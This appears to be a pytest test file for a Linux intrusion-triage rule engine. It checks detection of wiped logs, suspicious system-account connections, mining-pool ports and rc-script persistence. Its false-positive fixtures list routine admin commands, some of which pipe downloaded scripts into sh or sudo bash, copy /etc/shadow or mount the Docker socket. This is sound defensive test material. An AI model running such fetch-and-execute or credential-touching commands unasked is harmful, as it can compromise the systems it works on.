@pytest.mark.parametrize("entry, rule", [
    ({"source": "/var/log/auth.log", "source_size": 0, "mtime_ns": RECENT}, "TRI-EVADE-007"),
    ({"source": "/var/log/wtmp", "source_size": 0, "mtime_ns": RECENT}, "TRI-EVADE-007"),
    ({"source": "/var/log/btmp", "source_size": 0, "mtime_ns": RECENT}, None),  # no failed login, or rotated
    ({"source": "/var/log/lastlog", "source_size": 0, "mtime_ns": RECENT}, None),  # systemd-tmpfiles makes it
    ({"source": "/var/log/auth.log", "source_size": 4096, "mtime_ns": RECENT}, None),
    ({"source": "/var/log/messages", "source_size": 0, "mtime_ns": OLD}, None),  # nothing writes it any more
])
def test_emptied_logs(entry, rule):
    found = _run(RULES, {"files": [{"name": "fs" + entry["source"], **entry}]})
    assert [f["rule"] for f in found] == ([rule] if rule else [])


@pytest.mark.parametrize("connection, rule", [
    ({"state": "ESTABLISHED", "remote_is_public": True, "remote_cloud": "", "uid": 105, "remote_ip": "203.0.113.5",
      "remote_port": 8443, "owners": ["812 python3"]}, "TRI-NET-003"),
    ({"state": "ESTABLISHED", "remote_is_public": True, "remote_cloud": "", "uid": 110, "remote_ip": "162.159.200.1",
      "remote_port": 123, "owners": ["600 chronyd"]}, None),
])
def test_system_account_peers(connection, rule):
    found = _run([SHIPPED["TRI-NET-003"]], {"connections": [connection]})
    assert [f["rule"] for f in found] == ([rule] if rule else [])


# What busy clean servers' administrators type; none of it is worth a disk image
CLEAN = {
    "web": [
        "sudo apt update && sudo apt upgrade -y", "sudo systemctl restart nginx", "sudo nginx -t",
        "sudo certbot --nginx -d www.example.com", "tail -f /var/log/nginx/error.log",
        "sudo journalctl -u php8.2-fpm --since today", "sudo rm /var/log/nginx/access.log.5.gz",
        "curl -I https://www.example.com", "df -h", "du -sh /var/log/*", "sudo journalctl --vacuum-size=500M",
        "sudo cp /etc/nginx/sites-available/default /etc/nginx/sites-available/default.bak",
        "curl https://get.acme.sh | sh -s email=ops@example.com", "ls -l /etc/shadow", "history | grep certbot",
        "sudo systemctl reload nginx", "exit",
    ],
    "ci": [
        "curl -fsSL https://get.docker.com | sh", "sudo usermod -aG docker gitlab-runner",
        "curl -L https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh | sudo bash",
        "sudo gitlab-runner register", "docker run -d --name dind --privileged docker:dind",
        "docker run -d -v /var/run/docker.sock:/var/run/docker.sock gitlab/gitlab-runner:latest",
        "docker system prune -af", "docker ps -a", "sudo journalctl -u gitlab-runner -f",
        'docker run -d --net="host" --pid="host" -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter '
        "--path.rootfs=/host", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "nsenter -t $(docker inspect -f '{{.State.Pid}}' web) -n ss -ltnp", "go run ./cmd/server",
        "curl -s https://api.github.com/repos/org/repo/releases/latest | python3 -m json.tool",
        "curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
    ],
    "db": [
        "sudo -u postgres psql", "pg_dump -Fc appdb > /var/backups/appdb.dump",
        "rsync -az /var/backups/ backup@10.0.0.20:/srv/backups/db1/", "sudo systemctl restart postgresql",
        "rsync -az --delete /var/backups/ backup@offsite.example.com:/srv/db1/",
        "tail -n 100 /var/log/postgresql/postgresql-16-main.log", "sudo find /var/log -name '*.gz' -mtime +30 -delete",
        "grep -i error /var/log/syslog | tail", "mysql -u root -p", "sudo systemctl status auditd",
        "ls -la /var/lib/postgresql/16/main", "sudo truncate -s 0 /srv/app/tmp/cache.bin",
        "mysqldump --all-databases | gzip > /backup/all.sql.gz", "cat ~/.ssh/id_ed25519.pub",
    ],
    "bastion": [
        "ssh -J bastion admin@10.0.1.15", "ssh-keygen -t ed25519 -C ops@corp", "ssh-copy-id admin@10.0.1.16",
        "sudo vi /etc/ssh/sshd_config", "sudo systemctl restart sshd", "last -n 20", "sudo lastb | head",
        "w", "sudo grep Accepted /var/log/auth.log | tail", "nmap -p 22 10.0.1.15", "sudo -u john ls /home/john",
        "sudo useradd -m -s /bin/bash john", "sudo passwd john", "sudo chage -l john",
        "scp report.txt admin@10.0.1.15:",
        "history -w", "export HISTCONTROL=ignoreboth", "aws sts get-caller-identity", "kubectl get pods -A",
        "tar czf /tmp/ssh-config-backup.tgz /etc/ssh", "sudo cp -a /etc/shadow /etc/shadow.bak",
    ],
}


@pytest.mark.parametrize("server", sorted(CLEAN))
@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_clean_servers_raise_nothing(server, shell):
    found = _run(RULES, {"histories": _history(CLEAN[server], shell)})
    alerting = [(f["rule"], f["severity"], f["summary"]) for f in found if f["severity"] in ALERTING]
    assert not alerting, alerting


def test_memory_questions():
    """Where a memory image would decide (a foreign module with no tree to compare against, a connection to a
    mining-pool port), the finding says what to ask it."""
    foreign = _check("module_not_installed", module_tree_present=False, module="dummy", taint="OE")
    found = _run(RULES, {"findings": [foreign],
                         "connections": [{"state": "ESTABLISHED", "remote_port": 3333, "remote_is_public": True,
                                          "remote_ip": "203.0.113.8", "owners": ["77 kworker"]}]})
    questions = {f["rule"]: f.get("memory_question", "") for f in found}
    assert "module dummy hooks system calls" in questions["TRI-KERN-008"], questions
    assert "203.0.113.8:3333" in questions["TRI-EXEC-004"], questions


@pytest.mark.parametrize("path, hit", [
    ("/etc/rc.d/init.d/network", True),  # RHEL: /etc/init.d is a link, copies carry the resolved path
    ("/etc/rc.d/rc.local", True), ("/etc/rc.d/rc3.d/S10sshd", True), ("/etc/init.d/ssh", True),
    ("/etc/hosts", False), ("/etc/rc.d/README", False),
])
def test_recent_rc_script_change_on_rhel_paths(path, hit):
    now = 1_800_000_000.0
    record = {"source": path, "mtime_ns": int((now - 3600) * 1e9)}
    assert engine.matches(SHIPPED["TRI-PERSIST-005"].condition, record, now) is hit
